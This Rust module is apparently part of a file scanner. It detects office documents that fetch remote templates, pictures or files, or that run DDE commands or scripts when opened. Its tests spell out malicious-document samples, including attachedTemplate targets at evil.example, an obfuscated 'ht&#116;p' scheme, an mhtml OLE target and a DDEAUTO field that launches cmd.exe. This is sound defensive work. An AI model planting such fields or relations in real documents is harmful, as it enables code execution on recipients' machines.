//! What an office file asks to be fetched or run when it is opened: templates, pictures and fields from elsewhere (ECMA-376, parts 1 and 2; ODF 1.3).
//!
//! A link that somebody follows by hand is none of that, and neither is the address of a template on the disk of whoever wrote the file.

use crate::package::{Package, Refusal};

/// Bytes of all parts that are looked at. A larger file is none that an office wrote.
const BYTES: usize = 64 << 20;

/// What the file does when it is opened; nothing where it is only read.
pub fn acts(bytes: &[u8]) -> Option<&'static str> {
    let mut package = match Package::open(bytes) {
        Ok(package) => package,
        Err(Refusal::TooLarge) => return Some("ZIP"),
        Err(Refusal::Unreadable(_)) => return None,
    };
    let mut room = BYTES;
    for part in package.names() {
        let name = part.to_ascii_lowercase();
        let look: fn(&str) -> Option<&'static str> = match name.rsplit(['/', '\\']).next().unwrap_or_default() {
            file if file.ends_with(".rels") => relations,
            "content.xml" | "styles.xml" => open_document,
            file if name.starts_with("word/") && file.ends_with(".xml") => fields,
            _ => continue,
        };
        let text = match package.bytes(&part) {
            Ok(text) => text.unwrap_or_default(),
            // What cannot be looked at does not go out.
            Err(_) => return Some("ZIP"),
        };
        room = match room.checked_sub(text.len()) {
            Some(left) => left,
            None => return Some("ZIP"),
        };
        let text = readable(&text);
        if let Some(what) = look(&text) {
            return Some(what);
        }
    }
    None
}

/// The text of a part, which may be UTF-16 too.
pub(super) fn readable(bytes: &[u8]) -> String {
    let wide = |one: fn([u8; 2]) -> u16| {
        let units = bytes.chunks_exact(2).filter_map(|pair| pair.try_into().ok()).map(one);
        char::decode_utf16(units).map(|c| c.unwrap_or('\u{fffd}')).collect()
    };
    match bytes {
        [0xff, 0xfe, ..] | [b'<', 0, ..] => wide(u16::from_le_bytes),
        [0xfe, 0xff, ..] | [0, b'<', ..] => wide(u16::from_be_bytes),
        _ => String::from_utf8_lossy(bytes).into_owned(),
    }
}

/// Whether an address leads to another machine.
fn leads_away(address: &str) -> bool {
    let address = crate::trust::visible::seen(address).trim().to_ascii_lowercase().replace('\\', "/");
    let host = address.strip_prefix("file:").unwrap_or(&address);
    // "file:///C:/Users/…" is a place of the writer's own disk; "file://server/…" and "file:////server/…" are not.
    let slashes = host.len() - host.trim_start_matches('/').len();
    let share = slashes == 2 || slashes > 3;
    let scheme = address.split_once(':').map_or("", |(scheme, _)| scheme);
    share || (scheme.len() > 1 && scheme != "file" && scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-'))
}

/// The value of an attribute of a tag.
fn attribute<'t>(tag: &'t str, name: &str) -> Option<&'t str> {
    tag.match_indices(name).find_map(|(at, _)| {
        let before = tag.get(..at)?.chars().next_back()?;
        let rest = tag.get(at + name.len()..)?.trim_start().strip_prefix('=')?.trim_start();
        let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
        before.is_whitespace().then(|| rest.get(1..)?.split(quote).next()).flatten()
    })
}

/// A relation to something outside of the package that is fetched without being asked for.
fn relations(text: &str) -> Option<&'static str> {
    let fetched = text.split('<').skip(1).any(|tag| {
        let outside = attribute(tag, "TargetMode").is_some_and(|mode| mode.trim().eq_ignore_ascii_case("external"));
        let kind = attribute(tag, "Type").unwrap_or_default().rsplit('/').next().unwrap_or_default();
        let by_hand = matches!(kind, "hyperlink" | "video" | "audio" | "media");
        outside && !by_hand && attribute(tag, "Target").is_some_and(leads_away)
    });
    fetched.then_some("attachedTemplate, external")
}

/// A field of a Word document that runs a program or takes in a file from elsewhere. Its words may be cut into many runs.
fn fields(text: &str) -> Option<&'static str> {
    if !(text.contains("instrText") || text.contains(":instr=")) {
        return None;
    }
    let mut words = String::new();
    for tag in text.split('<').skip(1) {
        let name = tag.split([' ', '>', '/']).next().unwrap_or_default();
        if name.ends_with(":instrText")
            && let Some((_, content)) = tag.split_once('>')
        {
            words.push_str(content);
        } else if name.ends_with(":fldSimple") {
            words.push('\n');
            words.push_str(attribute(tag, "w:instr").unwrap_or_default());
        } else if name.ends_with(":fldChar") {
            words.push('\n');
        }
    }
    let acts = words.lines().any(|field| {
        let field = crate::trust::visible::seen(field).to_ascii_lowercase();
        let mut parts = field.split_whitespace();
        match parts.next().unwrap_or_default() {
            "dde" | "ddeauto" => true,
            "includepicture" | "includetext" | "include" | "import" | "link" | "rd" => {
                parts.any(|part| leads_away(part.trim_matches(|c| matches!(c, '"' | '\'' | '“' | '”'))))
            }
            _ => false,
        }
    });
    acts.then_some("DDE, INCLUDEPICTURE, INCLUDETEXT")
}

/// Pictures, sections and scripts of an OpenDocument file that are taken from elsewhere or run.
fn open_document(text: &str) -> Option<&'static str> {
    let acts = text.split('<').skip(1).any(|tag| {
        let name = tag.split([' ', '>', '/', '\n', '\t', '\r']).next().unwrap_or_default();
        match name.split_once(':').map_or("", |(_, name)| name) {
            "event-listener" | "dde-connection-decl" | "dde-source" | "script" => true,
            "image" | "section-source" | "object" | "object-ole" | "plugin" | "applet" | "fill-image" | "table-source"
            | "background-image" => attribute(tag, "xlink:href").is_some_and(leads_away),
            _ => false,
        }
    });
    acts.then_some("script, external")
}

#[cfg(test)]
mod tests {
    use super::super::tests::packed;
    use super::*;

    fn relation(kind: &str, target: &str) -> String {
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
             Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    }

    #[test]
    fn what_is_fetched_or_run_when_a_file_is_opened_is_seen() {
        for (name, text) in [
            ("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/a.dotm")),
            ("word/_rels/settings.xml.rels", relation("attachedTemplate", "\\\\evil.example\\share\\a.dotm")),
            ("word/_rels/settings.xml.rels", relation("attachedTemplate", "file://evil.example/a.dotm")),
            ("word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///\\\\evil.example\\a.dotm")),
            ("word/_rels/settings.xml.rels", relation("attachedTemplate", "ht&#116;p://evil.example/a.dotm")),
            ("WORD/_RELS/document.xml.rels", relation("image", "http://evil.example/a.png")),
            ("word/_rels/document.xml.rels", relation("oleObject", "mhtml:http://evil.example/a!x-usc:x")),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "https://evil.example/a.xlsx")),
            ("ppt/slides/_rels/slide1.xml.rels", relation("frame", "//evil.example/x")),
            ("word/document.xml", "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText>".to_owned()),
            (
                "word/header1.xml",
                "<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE \"http://evil.example/a\"</w:instrText></w:r>"
                    .to_owned(),
            ),
            ("word/document.xml", "<w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\evil.example\\a&quot; \">x</w:fldSimple>".to_owned()),
            ("content.xml", "<draw:image xlink:href=\"http://evil.example/a.png\"/>".to_owned()),
            ("content.xml", "<script:event-listener script:event-name=\"dom:load\"/>".to_owned()),
        ] {
            assert!(acts(&packed(&[("[Content_Types].xml", "<Types/>"), (name, &text)])).is_some(), "{name} {text}");
        }
    }

    #[test]
    fn links_that_people_follow_and_what_word_writes_by_itself_pass() {
        for (name, text) in [
            ("word/_rels/document.xml.rels", relation("hyperlink", "https://gialai.gov.vn/")),
            ("word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///C:\\Users\\A\\Templates\\Normal.dotm")),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "so-lieu-2024.xlsx")),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "file:///D:/bao%20cao/a.xlsx")),
            ("ppt/slides/_rels/slide1.xml.rels", relation("video", "https://www.youtube.com/embed/x")),
            (
                "word/document.xml",
                "<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldChar/><w:instrText> HYPERLINK \"https://gialai.gov.vn\" </w:instrText>"
                    .to_owned(),
            ),
            ("word/document.xml", "<w:t>DDEAUTO, INCLUDEPICTURE \"http://x\"</w:t><w:instrText>TOC \\o</w:instrText>".to_owned()),
            ("content.xml", "<text:a xlink:href=\"https://gialai.gov.vn/\">x</text:a><draw:image xlink:href=\"Pictures/1.png\"/>".to_owned()),
        ] {
            assert_eq!(acts(&packed(&[("[Content_Types].xml", "<Types/>"), (name, &text)])), None, "{name} {text}");
        }
    }

    #[test]
    fn a_part_that_unfolds_without_end_is_no_office_file() {
        let long = "<a/>".repeat(20 << 20);
        assert_eq!(acts(&packed(&[("word/document.xml", &long)])), Some("ZIP"));
    }
}
